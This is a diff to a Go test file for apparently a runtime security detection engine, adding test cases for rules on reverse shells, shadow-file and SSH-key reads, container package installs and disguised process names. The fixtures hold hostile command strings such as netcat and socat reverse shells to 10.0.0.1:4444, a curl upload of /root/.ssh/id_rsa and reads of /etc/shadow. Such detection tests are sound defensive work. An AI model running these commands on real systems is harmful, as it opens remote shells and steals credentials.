@@ -79,6 +79,11 @@ func TestDefaultRules(t *testing.T) {
 	// A dropper's usual form: written to /tmp, unlinked, run with fexecve.
 	deletedTmp := proc("3", "/tmp/.x/payload (deleted)", "", bash)
 	deletedTmp.ExeDeleted = true
+	// Names the caller chose: a link named like an exempt program resolves
+	// to what it points at, and comm is the link's name.
+	fakeApt := proc("apt", "/usr/bin/bash", "-c cat /etc/shadow; true", bash)
+	fakeSshd := proc("sshd", "/usr/bin/cat", "/etc/shadow", bash)
+	truncatedArgs := func(p *event.Process) *event.Process { p.ArgsTruncated = true; return p }
 
 	tests := []struct {
 		rule    string
@@ -107,7 +112,8 @@ func TestDefaultRules(t *testing.T) {
 			[]*event.Event{exec(memfd, nil), exec(proc("ls", "/usr/bin/ls", "", bash), nil)}},
 		{"Package Manager Run in Container",
 			[]*event.Event{exec(proc("apt-get", "/usr/bin/apt-get", "install nmap", sh("")), c), exec(proc("apk", "/sbin/apk", "add curl", runc), c),
-				exec(proc("apk", "/tmp/apk", "add curl", sh("")), c)},
+				exec(proc("apk", "/tmp/apk", "add curl", sh("")), c),
+				exec(proc("x", "/usr/bin/apt-get", "install nmap", proc("apt", "/usr/bin/bash", "", runc)), c)},
 			[]*event.Event{exec(apt, nil), exec(proc("dpkg", "/usr/bin/dpkg", "", proc("apt-get", "/usr/bin/apt-get", "", runc)), c)}},
 		{"Netcat or Socat Reverse Shell",
 			[]*event.Event{
@@ -116,6 +122,9 @@ func TestDefaultRules(t *testing.T) {
 				exec(proc("nc.traditional", "/usr/bin/nc.traditional", "-lvp 4444 -e /bin/bash", bash), nil),
 				exec(proc("socat", "/usr/bin/socat", "TCP:10.0.0.1:4444 EXEC:/bin/bash,pty,stderr", bash), nil),
 				exec(proc("nc", "/tmp/nc", "-e /bin/sh 10.0.0.1 4444", bash), nil),
+				exec(proc("nc", "/usr/bin/nc", "-ve /bin/sh 10.0.0.1 4444", bash), nil),
+				exec(proc("nc", "/usr/bin/nc", "-lvnpe 4444 /bin/sh", bash), nil),
+				exec(truncatedArgs(proc("nc", "/usr/bin/nc", "-v -v -v", bash)), nil),
 			},
 			[]*event.Event{
 				exec(proc("nc", "/usr/bin/nc", "-zv my-example.com 443", bash), nil),
@@ -135,15 +144,20 @@ func TestDefaultRules(t *testing.T) {
 		{"Read Shadow or Sudoers File",
 			[]*event.Event{read(user(proc("cat", "/usr/bin/cat", "/etc/shadow", bash)), "/etc/shadow"),
 				read(proc("python3", "/usr/bin/python3", "dump.py", bash), "/etc/sudoers.d/90-cloud"),
-				read(proc("python3", "/usr/bin/python3", "dump.py", bash), "/etc/gshadow")},
+				read(proc("python3", "/usr/bin/python3", "dump.py", bash), "/etc/gshadow"),
+				read(fakeSshd, "/etc/shadow"),
+				read(proc("cat", "/usr/bin/cat", "/etc/shadow", fakeApt), "/etc/shadow")},
 			[]*event.Event{read(proc("sudo", "/usr/bin/sudo", "ls", bash), "/etc/sudoers"),
 				read(proc("unix_chkpwd", "/usr/sbin/unix_chkpwd", "", sshd), "/etc/shadow"),
 				read(proc("cat", "/usr/bin/cat", "", bash), "/etc/passwd"),
 				read(proc("useradd", "/usr/sbin/useradd", "", dpkg), "/etc/shadow"),
+				read(proc("chage", "/usr/bin/chage", "-l root", bash), "/etc/shadow"),
+				read(proc("cat", "/usr/bin/cat", "/etc/shadow", proc("sh", "/usr/bin/dash", "-c cat /etc/shadow", dpkg)), "/etc/shadow"),
 				openEvent(proc("cat", "/usr/bin/cat", "", bash), nil, "/etc/shadow", unix.O_RDONLY, -int64(unix.EACCES))}},
 		{"Read SSH Private Key",
 			[]*event.Event{read(proc("curl", "/usr/bin/curl", "-F f=@/root/.ssh/id_rsa", bash), "/root/.ssh/id_rsa"),
-				read(proc("python3", "/usr/bin/python3", "", bash), "/etc/ssh/ssh_host_ed25519_key")},
+				read(proc("python3", "/usr/bin/python3", "", bash), "/etc/ssh/ssh_host_ed25519_key"),
+				read(proc("ssh-add", "/usr/bin/cat", "/root/.ssh/id_rsa", bash), "/root/.ssh/id_rsa")},
 			[]*event.Event{read(proc("ssh", "/usr/bin/ssh", "git@github.com", proc("git", "/usr/bin/git", "fetch", bash)), "/root/.ssh/id_ed25519"),
 				read(proc("sshd", "/usr/sbin/sshd", "", initp), "/etc/ssh/ssh_host_ed25519_key"),
 				read(proc("cat", "/usr/bin/cat", "", bash), "/root/.ssh/id_rsa.pub"),
@@ -158,7 +172,7 @@ func TestDefaultRules(t *testing.T) {
 			[]*event.Event{write(proc("cp", "/usr/bin/cp", "evil.so /lib/x86_64-linux-gnu/libc.so.6", bash), "/lib/x86_64-linux-gnu/libc.so.6", unix.O_TRUNC)},
 			[]*event.Event{write(proc("ldconfig", "/usr/sbin/ldconfig", "", dpkg), "/usr/lib/x.so", 0),
 				write(proc("python3", "/usr/bin/python3", "", bash), "/usr/lib/python3/dist-packages/__pycache__/a.cpython-311.pyc", 0),
-				write(proc("py3compile", "/usr/bin/py3compile", "", bash), "/usr/lib/python3/x.pyc", 0)}},
+				write(proc("py3compile", "/usr/bin/python3.11", "/usr/bin/py3compile -p x", dpkg), "/usr/lib/python3/x.pyc", 0)}},
 		{"Write Below Etc",
 			[]*event.Event{write(proc("python3", "/usr/bin/python3", "", bash), "/etc/ld.so.preload", 0),
 				write(proc("tee", "/usr/bin/tee", "-a /etc/passwd", proc("sudo", "/usr/bin/sudo", "", bash)), "/etc/passwd", unix.O_APPEND)},
